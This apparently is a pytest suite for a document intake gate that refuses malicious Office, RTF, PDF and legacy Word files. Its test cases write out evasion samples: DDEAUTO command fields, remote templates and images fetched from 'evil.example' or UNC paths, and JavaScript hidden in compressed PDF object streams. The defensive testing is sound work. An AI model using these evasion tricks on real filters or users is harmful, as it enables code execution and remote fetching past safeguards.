"""What hides from the gate under another name, spelling or form does not come in either."""
# ruff: noqa: E501 - each case on one line

from __future__ import annotations

import zlib

import pytest

from donflow.intake.gate import NotAdmitted, inspect
from tests.intake import office_files as office
from tests.intake import samples

DDE = office.letter(office.field("DDEAUTO cmd"))
W_DDE = f"<w:document {office.W}>{office.field('DDEAUTO cmd')}</w:document>"
LINK = '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
TYPES = samples.PARTS["[Content_Types].xml"].replace(
    "</Types>", '<Override PartName="/{}" ContentType="application/vnd.ms-{}"/></Types>'
)
OBJECTS = b"7 0 << /S /JavaScript /JS (app.alert(1)) >>"
PACKED = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>"
TWICE = b"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>"
LONG = b"<< /Long (" + b"x" * 70_000 + b") "
OLD = samples.OLE + bytes(504)


def pdf_with(dictionary: bytes, body: bytes, *, before: bytes = b"") -> bytes:
    return (
        b"%PDF-1.5\n" + before + b"5 0 obj\n" + dictionary + b"\nstream\n" + body
        + b"\nendstream\nendobj\nxref\n0 0\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF"
    )  # fmt: skip


def packed(dictionary: bytes = PACKED, **options: bytes) -> bytes:
    return pdf_with(dictionary, zlib.compress(OBJECTS), **options)


def twice(dictionary: bytes = TWICE, **options: bytes) -> bytes:
    return pdf_with(dictionary, zlib.compress(OBJECTS).hex().encode(), **options)


def rels(type_: str, target: str, mode: str = "External") -> bytes:
    return samples.word_with("word/_rels/document.xml.rels", samples.relations(type_, target, mode))


def field(*runs: str) -> bytes:
    return office.letter(office.field(*runs))


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        # parts under names of their own
        ("a.docx", samples.word_with("w/document.xml", W_DDE), "program_field"),
        ("a.docx", samples.word_with("word/document.bin", W_DDE), "program_field"),
        ("a.docx", samples.word_with("word/document.dat", "\ufeff" + W_DDE), "program_field"),
        ("a.docx", samples.word_with("word/document.dat", W_DDE.encode("utf-16")), "program_field"),
        ("a.docx", samples.archive({**samples.PARTS, "xl/links/l1.xml": LINK}), "program_field"),
        ("a.docx", samples.archive({**samples.PARTS, "xl/links/l1.dat": LINK}), "program_field"),
        ("a.docx", samples.word_with("[Content_Types].xml", TYPES.format("xl/s9.xml", "excel.macrosheet+xml")), "macros"),
        ("a.docx", samples.word_with("[Content_Types].xml", TYPES.format("w/c1.xml", "office.activeX+xml")), "macros"),
        ("a.docx", samples.word_with("[Content_Types].xml", TYPES.format("w/v.bin", "office.VBAPROJECT")), "macros"),
        ("a.docx", rels("xlMacrosheet", "s9.xml", "Internal"), "macros"),
        ("a.docx", rels("control", "c1.xml", "Internal"), "macros"),
        ("a.docx", samples.word_with("word/fonts/f.odttf", samples.OLE + b"x"), "embedded_object"),
        # templates and pictures from elsewhere
        ("a.docx", rels("attachedTemplate", " http://evil.example/x.dotm"), "external_relation"),
        ("a.docx", rels("attachedTemplate", "&#10;http://evil.example/x.dotm"), "external_relation"),
        ("a.docx", rels("attachedTemplate", "%5c%5cevil%5cx.dotm"), "external_relation"),
        ("a.docx", rels("attachedTemplate", "\u200bhttp://evil.example/x.dotm"), "external_relation"),
        ("a.docx", rels("image", "http://evil.example/x.png", " External"), "external_relation"),
        ("a.docx", rels("image", "http://evil.example/x.png", "Internal"), "external_relation"),
        ("a.docx", rels("image", r"\\evil\x.png", "Internal"), "external_relation"),
        # fields
        ("a.docx", field(" INCLUDEPICTURE “\\\\\\\\evil\\\\x.png”"), "fetching_field"),
        ("a.docx", field(' INCLUDEPICTURE "\\\\\\\\?\\\\UNC\\\\evil\\\\x.png"'), "fetching_field"),
        ("a.docx", field(' INCLUDEPICTURE "\\\\\\\\[::1]\\\\x.png"'), "fetching_field"),
        ("a.docx", field(" INCLUDEPICTURE http:\\\\\\\\evil"), "fetching_field"),
        ("a.docx", field(" INCLUDETEXT 'file:\\\\\\\\evil'"), "fetching_field"),
        # PDF
        ("a.pdf", packed(), "pdf_script"),
        ("a.pdf", packed(LONG + PACKED[2:]), "pdf_script"),
        ("a.pdf", packed(PACKED.replace(b">>", b"% stream\n>>")), "pdf_script"),
        ("a.pdf", packed(b"<< /N 1 /First 4 /Filter /FlateDecode >>"), "pdf_script"),
        ("a.pdf", pdf_with(b"<< /S /Rendition /JS (x) /Length 1 >>", b"x"), "pdf_script"),
        ("a.pdf", twice(), "pdf_hidden"),
        ("a.pdf", twice(b"<< /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>"), "pdf_hidden"),
        ("a.pdf", twice(LONG + TWICE[2:]), "pdf_hidden"),
        ("a.pdf", twice(before=b"% /Encrypt 1 0 R\n9 0 obj << /Encrypt 1 0 R >> endobj\n"), "pdf_hidden"),
        ("a.pdf", pdf_with(PACKED.replace(b">>", b"/DecodeParms << /Predictor 12 >> >>"), zlib.compress(b"7 0 << >>")), "pdf_hidden"),
        # rich text
        ("a.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "embedded_object"),
        ("a.rtf", rb"{\rtf1{\object\objautlink}}", "embedded_object"),
        ("a.rtf", rb"{\rtf1{\*\template http://evil.example/x.dotm}}", "external_relation"),
        ("a.doc", rb"{\rtf1{\*\template \\\\evil\\x.dotm}}", "external_relation"),
        ("a.rtf", rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}{\fldrslt}}}", "program_field"),
        ("a.rtf", rb"{\rtf1{\field{\*\fldinst {\b D}{\'44E}AUTO cmd}{\fldrslt}}}", "program_field"),
        ("a.rtf", rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE {http://evil.example/x}}}}", "fetching_field"),
        # from before 2007
        ("a.doc", OLD + b"\x13 DDEAUTO cmd\x14", "program_field"),
        ("a.doc", OLD + "\x13 ddeauto cmd\x14".encode("utf-16-le"), "program_field"),
        ("a.doc", OLD + "Equation Native".encode("utf-16-le"), "embedded_object"),
        # XML
        ("a.xml", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>', "old_office_xml"),
    ],
)  # fmt: skip
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_it_stays_out(name: str, data: bytes, code: str) -> None:
    with pytest.raises(NotAdmitted) as refused:
        inspect(data, name=name)

    assert code in {one.code for one in refused.value.refusals}
    assert all(str(one.reason) and str(one.remedy) for one in refused.value.refusals)


def test_a_page_of_the_web_that_declares_xml_is_no_receipt() -> None:
    page = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'

    with pytest.raises(NotAdmitted):
        inspect(page, name="a.xml")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.docx", field(' INCLUDEPICTURE "C:\\\\Users\\\\office\\\\x.png" \\* MERGEFORMAT')),
        ("a.docx", field(" =", "NUMPAGES - 1")),
        ("a.docx", rels("attachedTemplate", "Normal.dotm")),
        ("a.docx", rels("attachedTemplate", r"file:///C:\Users\office\模板.dotm")),
        ("协议.wps", samples.word_file()),
        ("流水.et", samples.workbook()),
        ("名单.txt", b"<b>\n1\n"),
        ("名单.csv", "<姓名>,金额\n".encode()),
        ("a.pdf", pdf_with(PACKED, zlib.compress(b"7 0 << /S /GoTo >>"))),
        ("a.pdf", pdf_with(b"<< /Length 9 /Filter /FlateDecode >>", zlib.compress(b"1 0 0 1 72 720 cm"))),
        ("a.pdf", pdf_with(b"<< /Length 9 /Filter /DCTDecode >>", b"\xff\xd8\xff\xe0")),
        ("a.rtf", rb"{\rtf1{\*\template Normal.dotm}{\field{\*\fldinst HYPERLINK http://a.example}}}"),
        ("a.rtf", rb"{\rtf1\ansi \'c4\'e3\'ba\'c3 text}"),
    ],
)  # fmt: skip
def test_what_is_harmless_still_comes_in(name: str, data: bytes) -> None:
    inspect(data, name=name)
